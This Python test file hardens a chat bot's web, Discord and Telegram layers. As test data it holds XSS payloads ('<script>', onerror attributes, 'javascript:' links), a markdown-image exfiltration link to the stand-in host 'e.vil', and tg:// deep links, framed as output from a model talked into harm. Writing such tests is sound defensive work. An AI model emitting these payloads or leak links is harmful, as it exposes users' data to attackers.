"""What comes from outside through the platforms: strangers at the page, and answers of a model that was talked into harm."""

from __future__ import annotations

import asyncio
import time
from html.parser import HTMLParser
from pathlib import Path

import aiohttp
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.files import FileStore
from bot.messages import Button, Piece
from bot.platforms import discord_layout, telegram_layout, web_render
from bot.platforms.discord_rest import SUPPRESS_EMBEDS
from bot.platforms.listener import CONNECTIONS, HEAD_SECONDS
from bot.platforms.web_api import LOGIN_LIMIT
from tests.platforms.discord_house import address, house
from tests.platforms.telegram_house import listening
from tests.platforms.web_stage import Stage
from tests.servers.discord import DiscordServer
from tests.servers.telegram import TelegramServer

TOKEN = "a token that nobody guesses"
JSON = {"Content-Type": "application/json"}


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    return Stage(FileStore(tmp_path))


# --- the page: what anyone may send ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ('{"token": ' + "1" * 3_000 + "}", 403),
        ('{"token": ' + "[" * 3_000, 400),
        ('{"token": NaN}', 403),
        ("{}" + " " * LOGIN_LIMIT, 413),
    ],
    ids=["a long number", "deep", "no number", "too long"],
)
async def test_a_stranger_at_the_login_gets_no_memory_and_no_traceback(stage: Stage, body: str, status: int) -> None:
    async with (
        stage.serve(token=TOKEN) as web,
        aiohttp.ClientSession(headers={"Origin": web.url}) as session,
        session.post(f"{web.url}/login", data=body, headers=JSON) as response,
    ):
        assert response.status == status


async def test_a_number_that_python_does_not_read_is_a_malformed_request(stage: Stage) -> None:
    async with stage.serve() as web, aiohttp.ClientSession(headers={"Origin": web.url}) as session:
        body = '{"id": "message-0001", "text": "x", "at": ' + "1" * 5_000 + "}"
        async with session.post(f"{web.url}/api/chats/chat1/messages", data=body, headers=JSON) as response:
            assert response.status == 400


async def test_connections_that_say_nothing_do_not_shut_the_page_for_long(stage: Stage) -> None:
    """A stream, which is quiet as well, stays open."""
    async with (
        stage.serve() as web,
        aiohttp.ClientSession() as session,
        session.get(f"{web.url}/api/chats/chat1/events") as stream,
    ):
        silent = [await asyncio.open_connection("127.0.0.1", web.port) for _ in range(CONNECTIONS)]
        for number, (_, writer) in enumerate(silent):
            writer.write((b"", b"GET / HTTP/1.1\r\nHo")[number % 2])
        answers = []
        deadline = time.monotonic() + 4 * HEAD_SECONDS
        while 200 not in answers and time.monotonic() < deadline:
            async with session.get(f"{web.url}/healthz", headers={"Connection": "close"}) as response:
                answers.append(response.status)
            await asyncio.sleep(0.2)
        for _, writer in silent:
            writer.close()
        await web.send(stage.address("chat1"), Piece("still there"), "1.0.0.0")
        async with asyncio.timeout(10):
            while b"still there" not in await stream.content.readline():
                assert not stream.content.at_eof()
    assert (answers[0], answers[-1]) == (503, 200)


# --- the page: what a model may make it show ---------------------------------------------------------------------------


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


PLAIN = {"a", "p", "br", "hr", "em", "strong", "s", "ul", "ol", "li", "blockquote", "h3", "h4", "h5", "h6"}
CODE = {"code", "pre", "div", "span", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"href", "target", "rel", "class", "data-lang", "tabindex", "start", "scope"}
SHARP = st.sampled_from(
    ["<script>", "<img src=x onerror=1>", "<svg/onload=1>", "![a](http://e.vil/?q)", "[a](javascript:1)", "](", "[", "]",
     '"', "'", "`", "```", "```js\" onload=\"1\n", "<", ">", "&", "&lt;", "\n", "\n\n", " ", "|", "|-|\n", "a", "*", "\\",
     "[x]: javascript:1\n", "[x]: data:text/html,1 \"'><script>\"\n", "[x]", "https://e.vil/\"onmouseover=1 ", "<https://a'\"b>",
     "[a](http://b \"' onload=1\")", "\t", "- ", "> ", "1. ", "    "]
)  # fmt: skip


@given(st.lists(SHARP, max_size=40).map("".join))
def test_no_markdown_becomes_a_script_or_a_picture_from_elsewhere(markdown: str) -> None:
    for tag, attributes in Tags(web_render.render(markdown)).found:
        assert tag in PLAIN | CODE
        assert attributes.keys() <= ATTRIBUTES
        assert (attributes.get("href") or "https://").startswith(("https://", "http://", "mailto:"))


LONG = 50_000
UNITS = [
    "\n", " ", "\t", "`", "```\n", "~~~\n", "*", "**", "** a", "_", "_ _", "~~", "[", "]", "[](", "](", "![", "<", "<a", ">",
    "> ", "- ", "1. ", "# ", "\\", "&", "h", "http://", "https://a.b ", "a@b.c ", "$", "||", "|", "|-", "|-|\n", "| a |\n|-|\n",
    "\u0301", "\u200d", "\U0001f1e6", "**中：**", "<!--", "[a]:", "[a]: b\n", " [", "* [", "|" + " " * 50, "-" + " " * 50,
]  # fmt: skip


@pytest.mark.parametrize("layout", [web_render.render, discord_layout.layout, telegram_layout.layout])
@pytest.mark.parametrize("end", ["", "]:", "x"])
def test_no_text_takes_long_to_lay_out(layout: object, end: str) -> None:
    """All chats share the loop that this runs in. The worst of these took minutes."""
    assert callable(layout)
    for unit in UNITS:
        text = (unit * LONG)[:LONG] + end
        began = time.process_time()
        layout(text)
        assert time.process_time() - began < 4, f"{unit!r} ... {end!r}"


# --- strangers ---------------------------------------------------------------------------------------------------------


async def test_a_stranger_who_adds_the_bot_and_throws_it_out_writes_nothing() -> None:
    async with TelegramServer() as server:
        ann, stranger = server.user("Ann"), server.user("Eve")
        group, shared = server.supergroup(stranger), server.group(ann)
        async with listening(server, allowed=f"telegram:{ann.id}") as home:
            for _ in range(3):
                server.kick(group, stranger)
                server.invite(group, stranger)
            server.kick(shared, ann)
            await home.inbox.wait()
            await home.confirmed()
        assert [event.chat.chat for event in home.inbox.events] == [str(shared.id)]


# --- links that act by themselves --------------------------------------------------------------------------------------


async def test_discord_fetches_no_link_that_a_model_wrote() -> None:
    """A preview is fetched the moment that a link is shown: it would carry away whatever its address holds."""
    leak = "![x](https://e.vil/?said=everything) https://e.vil/?said=everything"
    async with DiscordServer() as server, house(server) as home:
        user = server.user("ann")
        to = address(server.dm(user))
        message = await home.platform.send(to, Piece("…", buttons=((Button("Stop", "stop.1"),),)), "1.0.0.0")
        await home.platform.edit(to, message, Piece(leak))
        bodies = [call.payload for call in server.log if "messages" in call.route]
    assert len(bodies) == 2
    for body in bodies:
        assert isinstance(body, dict)
        assert body["flags"] & SUPPRESS_EMBEDS


@pytest.mark.parametrize("url", ["tg://user?id=123456789", "tg://resolve?domain=e_vil", "tg:login?token=x", "ton://x"])
def test_a_model_calls_nobody_and_starts_nothing_in_telegram(url: str) -> None:
    (piece,) = telegram_layout.layout(f"**see** [here]({url})")
    assert "text_link" not in piece.marks and "tg:" not in piece.marks
